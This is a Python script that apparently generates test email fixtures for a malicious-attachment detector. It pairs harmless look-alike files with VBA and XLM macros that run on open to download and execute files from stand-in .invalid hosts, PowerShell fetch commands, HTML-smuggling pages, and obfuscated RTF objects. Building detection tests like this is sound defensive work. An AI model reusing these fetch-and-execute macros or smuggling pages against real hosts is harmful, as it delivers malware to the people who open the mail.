"""make-decode-samples.py DIR - harmless messages for tests/decode.sh.

Each message carries INERT-TEST-FIXTURE and names only example.com / .invalid hosts;
the documents come from mkoffice.py (beside this file).  Writes DIR/NAME.eml for the
names in SAMPLES below."""

import email.message
import email.policy
import hashlib
import io
import os
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mkoffice  # noqa: E402

M = mkoffice.MARKER

# a macro that runs on open, fetches and runs what it fetched
FETCH_EXEC = (
    "Sub AutoOpen()\n"
    "    ' " + M + "\n"
    "    Dim h: Set h = CreateObject(\"MSXML2.XMLHTTP\")\n"
    "    h.Open \"GET\", \"http://payload.example.invalid/update.bin\", False\n"
    "    h.Send\n"
    "    URLDownloadToFile 0, \"http://payload.example.invalid/a.exe\", "
    "Environ(\"TEMP\") & \"\\a.exe\", 0, 0\n"
    "    Shell Environ(\"TEMP\") & \"\\a.exe\", vbHide\n"
    "End Sub\n")

# Workbook_Open with the same behaviour spelled another way
FETCH_EXEC_WB = (
    "Private Sub Workbook_Open()\n"
    "    ' " + M + "\n"
    "    CreateObject(\"WScript.Shell\").Run \"powershell -c iwr http://cdn.example.invalid/p.ps1\"\n"
    "End Sub\n")

# a legitimate macro: runs on open, formats and saves, fetches nothing, runs nothing
LEGIT = (
    "Sub AutoOpen()\n"
    "    ' " + M + ": number the headings and save\n"
    "    Dim p\n"
    "    For Each p In ActiveDocument.Paragraphs\n"
    "        If p.Style = \"Heading 1\" Then p.Range.ListFormat.ApplyNumberDefault\n"
    "    Next\n"
    "    ActiveDocument.Save\n"
    "End Sub\n")

# a legitimate macro that opens a help page in the browser when asked, not on open
LEGIT_LINK = (
    "Sub ShowHelp()\n"
    "    ' " + M + "\n"
    "    ActiveWorkbook.FollowHyperlink \"https://help.example.com/budget\"\n"
    "End Sub\n")

XLM_FETCH_EXEC = [
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://payload.example.invalid/a.bin",'
    '"C:\\Users\\Public\\a.bin",0,0)',
    'EXEC("rundll32 C:\\Users\\Public\\a.bin,DllRegister")',
    'ALERT("' + M + '")',
    "HALT()",
]
XLM_LEGIT = ['ALERT("' + M + ': quarterly figures updated")', "HALT()"]

SMUGGLE_BLOB = """<html><body><!-- %s --><script>
var b = atob("TVqQAAAAAAAAAAAA"), u = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);
var a = document.createElement("a");
a.href = window.URL.createObjectURL(new Blob([u], {type: "application/octet-stream"}));
a.download = "fixture.bin"; /* a.click() in the real thing */ if (false) a.click();
</script></body></html>
""" % M

SMUGGLE_MSSAVE = """<!DOCTYPE html><html><body><!-- %s --><script>
var data = new Uint8Array([77, 90, 0, 0]);
var blob = new Blob([data]);
if (window.navigator && false) window.navigator.msSaveOrOpenBlob(blob, "fixture.bin");
</script></body></html>
""" % M

SMUGGLE_DATA = """<html><body><p>%s</p>
<a id="d" href="data:application/octet-stream;base64,TVqQAAAAAAAAAAAA" download="fixture.bin">invoice</a>
</body></html>
""" % M

SMUGGLE_ATOB = """<html><body><!-- %s --><script>
var p = "%s";
var f = new File([Uint8Array.from(atob(p), function (c) { return c.charCodeAt(0); })], "f.bin");
</script></body></html>
""" % (M, "TVqQ" + "A" * 2400)

# a web application's "export as CSV": a Blob of data the page made, downloaded and
# clicked (the first idiom's calls, with no payload carried in the page)
CSV_EXPORT = """<html><body><!-- %s --><script>
function exportCsv(rows) {
  var text = rows.map(function (r) { return r.join(","); }).join("\\n");
  var a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob([text], {type: "text/csv"}));
  a.download = "%s";
  if (false) a.click();
}
</script></body></html>
"""

HTML_REPORT = """<html><head><title>Report</title><script>
// %s: sort the table when a header is clicked
function sortTable(n) { var t = document.getElementById("t"); t.dataset.sorted = n; }
document.addEventListener("DOMContentLoaded", function () { sortTable(0); });
</script></head><body><table id="t"><tr><th onclick="sortTable(0)">Item</th></tr></table>
<a href="https://www.example.com/report.csv" download>Download the CSV</a>
</body></html>
""" % M


def mail(subject, attachments, body="Please see the attached file.\n"):
    msg = email.message.EmailMessage(policy=email.policy.SMTP)
    msg["From"] = "Sender <sender@example.com>"
    msg["To"] = "rcpt@example.com"
    msg["Subject"] = subject
    msg["Message-ID"] = "<%s@example.com>" % hashlib.md5(subject.encode()).hexdigest()[:16]
    msg.set_content(body + "\n" + M + "\n")
    for name, data in attachments:
        if isinstance(data, email.message.EmailMessage):
            msg.add_attachment(data)
        else:
            msg.add_attachment(data, maintype="application", subtype="octet-stream",
                               filename=name)
    return msg


def zipped(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, date_time=(2021, 3, 1, 9, 0, 0)), data)
    return buf.getvalue()


def large_rtf():
    """an ordinary RTF: a Package object first, then 200 KB of text with \\obj-like
    words, so the content window is full of what lookaheads would backtrack over"""
    head = mkoffice.rtf_with_object("Package", objclass=True).decode("latin-1")
    text = "".join("\\par paragraph %d of the minutes, objection noted, equation solved {\\b %d}\n"
                   % (i, i) for i in range(2600))
    return (head[:-2] + text + "}\n").encode("latin-1")


def samples():
    o = mkoffice
    eq = o.rtf_with_object("Equation.3", obfuscate=True, pad=6000, objclass=False)
    return {
        "docm-fetch-exec": mail("Invoice", [("invoice.docm",
                                             o.ooxml_with_vba("docm", {"Module1": FETCH_EXEC}))]),
        "doc-fetch-exec": mail("Invoice", [("invoice.doc",
                                            o.ole_doc_with_vba({"Module1": FETCH_EXEC}))]),
        "xlam-fetch-exec": mail("Add-in", [("tools.xlam", o.ooxml_with_vba(
            "xlam", {"ThisWorkbook": FETCH_EXEC_WB}))]),
        "ppam-fetch-exec": mail("Add-in", [("deck.ppam", o.ooxml_with_vba(
            "ppam", {"Module1": FETCH_EXEC}))]),
        "docm-in-zip-fetch-exec": mail("Documents", [("docs.zip", zipped(
            [("docs/invoice.docm", o.ooxml_with_vba("docm", {"Module1": FETCH_EXEC}))]))]),
        "docm-in-message": mail("Fwd: Invoice", [("", mail(
            "Invoice", [("invoice.docm", o.ooxml_with_vba("docm", {"Module1": FETCH_EXEC}))]))]),
        "docm-legit": mail("Report template", [("template.docm", o.ooxml_with_vba(
            "docm", {"Module1": LEGIT}))]),
        "xlsm-legit-link": mail("Budget", [("budget.xlsm", o.ooxml_with_vba(
            "xlsm", {"Module1": LEGIT_LINK}))]),
        "xls-xlm-fetch-exec": mail("Notice", [("notice.xls", o.xls_with_xlm(XLM_FETCH_EXEC))]),
        "xls-xlm-in-zip": mail("Official notification", [("Official notification.zip", zipped(
            [("notification.xls", o.xls_with_xlm(XLM_FETCH_EXEC))]))]),
        "xlsm-xlm-fetch-exec": mail("Notice", [("notice.xlsm", o.xlsm_with_xlm(XLM_FETCH_EXEC))]),
        "pptm-fetch-exec": mail("Deck", [("deck.pptm", o.ooxml_with_vba(
            "pptm", {"Module1": FETCH_EXEC}))]),
        "xls-xlm-legit": mail("Figures", [("figures.xls", o.xls_with_xlm(XLM_LEGIT))]),
        "rtf-equation-late-broken": mail("Quotation", [("quote.rtf", eq)]),
        "rtf-equation-in-zip": mail("Quotation", [("quote.zip", zipped([("quote.doc", eq)]))]),
        "rtf-large-legit": mail("Minutes", [("minutes.rtf", large_rtf())]),
        "rtf-package": mail("Notes", [("notes.rtf", o.rtf_with_object(
            "Package", obfuscate=True, pad=6000, objclass=False))]),
        "smuggle-blob-zip": mail("Voicemail", [("voicemail.zip", zipped(
            [("voicemail.html", SMUGGLE_BLOB.encode())]))]),
        "smuggle-mssave-zip": mail("Voicemail", [("voicemail.zip", zipped(
            [("player.htm", SMUGGLE_MSSAVE.encode())]))]),
        "smuggle-data-uri": mail("Statement", [("statement.html", SMUGGLE_DATA.encode())]),
        "smuggle-atob-zip": mail("Statement", [("statement.zip", zipped(
            [("statement.html", SMUGGLE_ATOB.encode())]))]),
        "csv-export-zip": mail("Export", [("export.zip", zipped(
            [("export.html", (CSV_EXPORT % (M, "report.csv")).encode())]))]),
        "iso-export-zip": mail("Export", [("export.zip", zipped(
            [("export.html", (CSV_EXPORT % (M, "Invoice_0147.iso")).encode())]))]),
        "html-report-zip": mail("Report", [("report.zip", zipped(
            [("report.html", HTML_REPORT.encode())]))]),
    }


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: make-decode-samples.py DIR")
    os.makedirs(sys.argv[1], exist_ok=True)
    for name, msg in samples().items():
        with open(os.path.join(sys.argv[1], name + ".eml"), "wb") as f:
            f.write(msg.as_bytes())


if __name__ == "__main__":
    main()
